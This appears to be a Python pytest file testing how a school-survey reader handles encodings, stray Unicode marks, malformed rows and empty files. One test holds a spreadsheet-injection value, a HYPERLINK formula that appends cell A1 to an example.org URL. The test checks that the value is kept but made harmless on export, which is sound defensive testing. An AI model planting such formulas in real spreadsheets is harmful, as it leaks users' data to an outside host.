"""Lines 19, 21, 29 to 38, 47 and 53: how a file's text is written."""

import unicodedata

import pandas as pd
import pytest

from sel.outputs.tables import csv_bytes
from tests.readers.bad_files.school import (
    ANA,
    BEN,
    CHI,
    EVERYBODY,
    HEADER,
    OPEN_IDS,
    everybody,
    mended,
    row,
    said,
    survey,
    text_of,
)

NBSP, RLM, RLE, PDF = "\u00a0", "\u200f", "\u202b", "\u202c"


def test_19_blank_rows_inside_are_passed_over_and_counted_with_rows_as_the_sheet_shows_them(school):
    lines = everybody()
    checked = school.answers(survey(*lines[:2], [""] * len(HEADER), [""] * len(HEADER), *lines[2:]))
    assert checked.skipped == {"blank": 2}
    assert checked.parts[0].frames["responses"]["row"].tolist() == [2, 3, 6, 7, 8, 9, 10]
    assert school.stored(checked) == EVERYBODY


def test_21_no_break_spaces_in_headers_ids_and_answers_are_spaces(school):
    header = [name.replace(" ", NBSP) for name in HEADER]
    lines = [row(key + NBSP, "Ms." + NBSP + "Peña", answer="Strongly" + NBSP + "agree") for key in OPEN_IDS]
    checked = school.answers(survey(*lines, header=header))
    assert set(school.stored(checked)) == set(OPEN_IDS)
    assert school.items("AS1") == dict.fromkeys(OPEN_IDS, 4)
    assert checked.names["auto"] == len(OPEN_IDS)


def test_29_windows_quotes_are_shown_before_they_are_believed(school):
    data = text_of([HEADER, *everybody("Ms. “Rosie” Peña’s room")]).encode("cp1252")
    checked = school.answers(data)
    found = said(checked, "encoding_cp1252", "Peña’s")
    again = mended(school, data, "made-up.csv", found, "spelled right")
    assert "encoding_cp1252" not in {problem.code for problem in again.problems}
    assert school.stored(again) == dict.fromkeys(OPEN_IDS, ("Ms. “Rosie” Peña’s room",))


def test_30_words_garbled_before_they_came_are_said_and_never_repaired_in_silence(school):
    garbled = "Ms. Peña".encode().decode("cp1252")
    checked = school.answers(survey(*everybody(garbled)))
    said(checked, "mojibake", "PeÃ±a")
    assert school.stored(checked) == dict.fromkeys(OPEN_IDS, (garbled,))


@pytest.mark.parametrize(
    ("encoding", "mark"), [("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff"), ("utf-8", b"\xef\xbb\xbf")]
)
def test_31_tabs_and_sixteen_bits_are_read(encoding, mark, school):
    data = mark + text_of([HEADER, *everybody()], "\t").encode(encoding)
    checked = school.answers(data, "made-up.tsv")
    assert [problem.code for problem in checked.problems] == []
    assert school.stored(checked) == EVERYBODY


def test_32_lines_that_end_in_a_carriage_return_alone_are_lines(school):
    data = text_of([HEADER, *everybody()], end="\r").encode()
    assert school.stored(school.answers(data)) == EVERYBODY


def test_33_semicolons_with_decimal_commas_are_read(school):
    lines = [row(key, "Ms. Peña", answer="3,0") for key in OPEN_IDS]
    checked = school.answers(text_of([HEADER, *lines], ";").encode())
    assert school.stored(checked) == EVERYBODY
    assert school.items("VO4") == dict.fromkeys(OPEN_IDS, 3)


def test_34_a_line_break_inside_a_cell_stays_in_the_cell(school):
    checked = school.answers(survey(row(ANA, "Ms. Peña\nMr. Lee"), *everybody()[1:]))
    assert school.stored(checked) == {**EVERYBODY, ANA: ("Ms. Peña", "Mr. Lee")}


def test_35_an_unclosed_quote_refuses_the_file_at_its_row(school):
    text = text_of([HEADER, *everybody()]) + f'10/5/2026 9:00:00,,{BEN},"Ms. Peña'
    problem = school.refuses(school.answers(text.encode()), "unclosed_quote", "never closed", "Export")
    assert problem.rows == (9,)


def test_36_a_ragged_row_is_left_out_with_its_number_and_shifts_nothing(school):
    bare = text_of([row(BEN, "@", at="10/5/2026 9:00:00")]).replace("@", "Lee, Sam")
    text = text_of([HEADER, *everybody()[:-1]]) + bare
    checked = school.answers(text.encode())
    assert len(text.splitlines()[-1].split(",")) == len(HEADER) + 1
    assert said(checked, "ragged_rows", "quotation marks").rows == (8,)
    assert (checked.rows_read, checked.parts[0].rejected + checked.skipped.get("ragged", 0)) == (7, 1)
    assert school.stored(checked) == {key: EVERYBODY[key] for key in OPEN_IDS[:-1]}


def test_36_a_file_of_ragged_rows_is_refused(school):
    text = text_of([HEADER]) + "".join(text_of([[*line, "more"]]) for line in everybody())
    school.refuses(school.answers(text.encode()), "ragged_rows", "7 of 7 rows")


def test_37_nul_bytes_refuse_the_file_as_damaged(school):
    data = survey().replace(b"Ms.", b"Ms\0", 1)
    school.refuses(school.answers(data), "not_text", "damaged")


def test_38_bidi_marks_mean_nothing_in_headers_ids_and_answers(school):
    header = [RLE + name + PDF for name in HEADER]
    lines = [row(RLM + key, "Ms. Peña" + RLM, answer="Agree" + RLM) for key in OPEN_IDS]
    checked = school.answers(survey(*lines, header=header))
    stored = school.stored(checked)
    assert set(stored) == set(OPEN_IDS)
    assert school.items("AS1") == dict.fromkeys(OPEN_IDS, 3)
    assert checked.names["auto"] == len(OPEN_IDS)


def test_47_text_that_looks_like_a_formula_is_kept_as_written_and_made_harmless_on_the_way_out(school):
    wicked = '=HYPERLINK("http://example.org/?"&A1,"Ms. Peña")'
    checked = school.answers(survey(row(ANA, wicked), row(BEN, "+Lee"), row(CHI, "@Ortiz"), *everybody()[3:]))
    stored = school.stored(checked)
    assert [stored[key] for key in (ANA, BEN, CHI)] == [(wicked,), ("+Lee",), ("@Ortiz",)]
    out = csv_bytes(pd.DataFrame({"text": [text for texts in stored.values() for text in texts]}))
    assert [mark for mark in (b"\n=", b"\n+", b"\n@", b'\n"=') if mark in out.replace(b"\r", b"")] == []


@pytest.mark.parametrize(
    ("data", "code"),
    [
        pytest.param(b"", "empty_file", id="nothing at all"),
        pytest.param(b"\xef\xbb\xbf\r\n \r\n", "empty_file", id="blank lines"),
        pytest.param(text_of([HEADER]).encode(), "no_rows", id="a header alone"),
        pytest.param(text_of([HEADER, [""] * len(HEADER)]).encode(), "no_rows", id="a header and blank rows"),
    ],
)
def test_53_an_empty_file_or_a_header_alone_is_refused(data, code, school):
    school.refuses(school.answers(data), code, "made-up.csv")


def test_39_composed_and_decomposed_accents_are_one_name_and_kept_as_written(school):
    header = [unicodedata.normalize("NFD", name) for name in HEADER]
    apart = unicodedata.normalize("NFD", "Ms. Peña")
    checked = school.answers(survey(*everybody(apart), header=header))
    assert (len(apart), checked.names["auto"]) == (9, len(OPEN_IDS))
    assert school.stored(checked) == dict.fromkeys(OPEN_IDS, (apart,))
